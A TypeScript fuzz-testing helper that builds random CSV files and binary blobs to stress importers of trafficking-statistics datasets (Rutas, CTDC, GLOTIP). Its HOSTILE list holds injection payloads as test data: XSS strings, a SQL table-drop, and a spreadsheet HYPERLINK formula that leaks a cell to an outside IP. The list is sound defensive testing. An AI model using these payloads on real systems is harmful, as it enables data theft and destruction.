/**
 * fast-check arbitraries for the readers and importers: random bytes behind a format's magic, and
 * delimited text of random structure (delimiters, quoting, line endings, BOMs, encodings) with
 * headers mixing Rutas, CTDC and GLOTIP column names, junk, markup and SQL.
 */
import fc from 'fast-check';

/** Runs per property: fewer in CI (two shared cores), more locally. */
export const FUZZ_RUNS = process.env.CI ? 40 : 300;

/** Values that must stay text wherever they are shown or written. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  "'); DROP TABLE cases; --",
  '"',
  '\\',
  '\\"',
  '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '</script><script>alert(1)</script>',
  '${7*7}',
  '{{constructor}}',
  '__proto__',
];

const RUTAS = ['year', 'origin', 'transit', 'destination', 'sector', 'sex', 'age_group', 'victims'];
const CTDC = [
  'yearOfRegistration',
  'citizenship',
  'CountryOfExploitation',
  'gender',
  'ageBroad',
  'majorityStatus',
  'isSexualExploit',
  'typeOfLabourMiningOrDrilling',
];
const GLOTIP = [
  'Iso3_code',
  'Indicator',
  'Dimension',
  'Category',
  'Sex',
  'Age',
  'Year',
  'txtVALUE',
];

const YEARS = ['2019', '2021', '2015', '20x9', '1899', '', 'TOTAL'];
const PLACES = [
  'BOL',
  'PE',
  'ARG',
  'Perú',
  'Venezuela',
  'Brasileña',
  'Atlantis',
  'TOTAL',
  '-99',
  '00',
  'Unknown',
  '',
  'Côte d’Ivoire',
  'Ciudadanos de su país',
  'COL;ECU',
  'PER|CHL',
];
const OTHER = [
  '',
  ' ',
  '<5',
  '1,757',
  '1.757',
  '-4',
  '12',
  '1',
  '0',
  'mining',
  'explotación sexual',
  'domestic work',
  'F',
  'mujer',
  'adult',
  'menor',
  '9--17',
  '48+',
  'Total',
  'by citizenship',
  'Detected trafficking victims',
  'São Paulo',
];

const junk = fc.string({ maxLength: 12, unit: 'grapheme' });
const hostile = fc.constantFrom(...HOSTILE);
const pick = (values: string[]) =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...values) },
    { weight: 1, arbitrary: hostile },
    { weight: 1, arbitrary: junk },
  );

/** A cell for a column: years under year columns, places under place columns, else anything. */
function cellFor(column: string): fc.Arbitrary<string> {
  if (/year/i.test(column)) return pick(YEARS);
  if (/^indicator$/i.test(column)) return pick(['Detected trafficking victims', 'Convicted']);
  if (/^dimension$/i.test(column))
    return pick(['Total', 'by citizenship', 'by country of repatriation', 'by form']);
  if (/^(sex|age)$/.test(column)) return pick(['Total', 'Total', 'Female', '0-17']);
  if (/origin|destination|transit|citizenship|country|iso3|category/i.test(column))
    return pick(PLACES);
  return pick(OTHER);
}

/** An importer's columns (some dropped, shuffled, junk or hostile ones added), or any at all. */
const header = fc.oneof(
  ...[RUTAS, CTDC, GLOTIP].map((names) =>
    fc
      .tuple(
        fc.oneof(
          { weight: 3, arbitrary: fc.shuffledSubarray(names, { minLength: names.length }) },
          { weight: 1, arbitrary: fc.shuffledSubarray(names, { minLength: names.length - 2 }) },
        ),
        fc.array(fc.oneof(hostile, junk), { maxLength: 2 }),
      )
      .map(([known, extra]) => [...known, ...extra]),
  ),
  fc.array(fc.oneof(fc.constantFrom(...RUTAS, ...CTDC, ...GLOTIP), hostile, junk), {
    minLength: 1,
    maxLength: 10,
  }),
);

/** Rows under a header: mostly as many cells as columns, sometimes fewer or more. */
const table = header.chain((columns) =>
  fc.record({
    header: fc.constant(columns),
    rows: fc.array(
      fc
        .tuple(
          fc.tuple(...columns.map(cellFor)),
          fc.oneof(
            { weight: 6, arbitrary: fc.constant(0) },
            { weight: 1, arbitrary: fc.integer({ min: -3, max: 2 }) },
          ),
        )
        .map(([cells, change]) =>
          change >= 0 ? [...cells, ...Array<string>(change).fill('x')] : cells.slice(0, change),
        ),
      { maxLength: 25 },
    ),
  }),
);

export interface CsvShape {
  header: string[];
  rows: string[][];
  preamble: string[];
  delimiter: string;
  lineEnd: string;
  quoting: 'minimal' | 'all' | 'none';
  bom: boolean;
  encoding: 'utf-8' | 'windows-1252' | 'utf-16le' | 'utf-16be';
}

export const csvShape: fc.Arbitrary<CsvShape> = fc
  .record({
    table,
    preamble: fc.array(
      fc.constantFrom('# rutas:disclosure_floor=11', '# comment', 'Informe anual', ''),
      { maxLength: 2 },
    ),
    delimiter: fc.constantFrom(',', ';', '\t', '|'),
    lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
    quoting: fc.constantFrom<CsvShape['quoting']>('minimal', 'all', 'none'),
    // Always a BOM for UTF-16 (as Excel writes it), except sometimes: then it reads as binary.
    bom: fc.boolean(),
    encoding: fc.constantFrom<CsvShape['encoding']>(
      'utf-8',
      'windows-1252',
      'utf-16le',
      'utf-16be',
    ),
  })
  .chain(({ table, ...rest }) =>
    (rest.encoding.startsWith('utf-16')
      ? fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, fc.constant(false))
      : fc.constant(rest.bom)
    ).map((bom) => ({ ...table, ...rest, bom })),
  );

function quote(cell: string, shape: CsvShape): string {
  const needs = cell.includes(shape.delimiter) || /["\r\n]/.test(cell);
  if (shape.quoting === 'all' || (shape.quoting === 'minimal' && needs))
    return `"${cell.replaceAll('"', '""')}"`;
  return cell; // 'none': written as is, delimiters and quotes included (ragged rows)
}

/** The text of a CSV shape, before encoding. */
export function csvText(shape: CsvShape): string {
  const line = (cells: string[]) => cells.map((c) => quote(c, shape)).join(shape.delimiter);
  return [...shape.preamble, line(shape.header), ...shape.rows.map(line)].join(shape.lineEnd);
}

/** The bytes of a CSV shape in its encoding (characters Windows-1252 lacks become "?"). */
export function csvBytes(shape: CsvShape): Uint8Array {
  const text = csvText(shape);
  if (shape.encoding === 'utf-8') {
    const body = new TextEncoder().encode(text);
    return shape.bom ? new Uint8Array([0xef, 0xbb, 0xbf, ...body]) : body;
  }
  if (shape.encoding === 'windows-1252') {
    return Uint8Array.from(text, (c) => (c.charCodeAt(0) <= 0xff ? c.charCodeAt(0) : 0x3f));
  }
  const le = shape.encoding === 'utf-16le';
  const units: number[] = shape.bom ? [0xfeff] : [];
  for (let i = 0; i < text.length; i++) units.push(text.charCodeAt(i));
  const bytes = new Uint8Array(units.length * 2);
  units.forEach((u, i) => {
    bytes[2 * i + (le ? 0 : 1)] = u & 0xff;
    bytes[2 * i + (le ? 1 : 0)] = u >> 8;
  });
  return bytes;
}

const MAGIC: Record<string, number[]> = {
  parquet: [0x50, 0x41, 0x52, 0x31],
  arrow: [0x41, 0x52, 0x52, 0x4f, 0x57, 0x31],
  xlsx: [0x50, 0x4b, 0x03, 0x04],
  json: [0x5b],
  ndjson: [0x7b],
  csv: [],
  txt: [],
};

export interface RandomFile {
  format: string;
  name: string;
  body: Uint8Array;
  tail: number[];
}

/** Random bytes, perhaps behind a format's magic bytes, with a name of any of the formats. */
export const randomFile: fc.Arbitrary<RandomFile> = fc.record({
  format: fc.constantFrom(...Object.keys(MAGIC)),
  name: fc.constantFrom('f.csv', 'f.xlsx', 'f.json', 'f.ndjson', 'f.parquet', 'f.arrow', 'f'),
  body: fc.uint8Array({ minLength: 0, maxLength: 3000 }),
  // Parquet also ends in its magic; a zip needs an end record to be read at all.
  tail: fc.constantFrom<number[]>([], [0x50, 0x41, 0x52, 0x31], [0x50, 0x4b, 0x05, 0x06]),
});

export function randomFileBytes(f: RandomFile): Uint8Array {
  return new Uint8Array([...MAGIC[f.format]!, ...f.body, ...f.tail]);
}
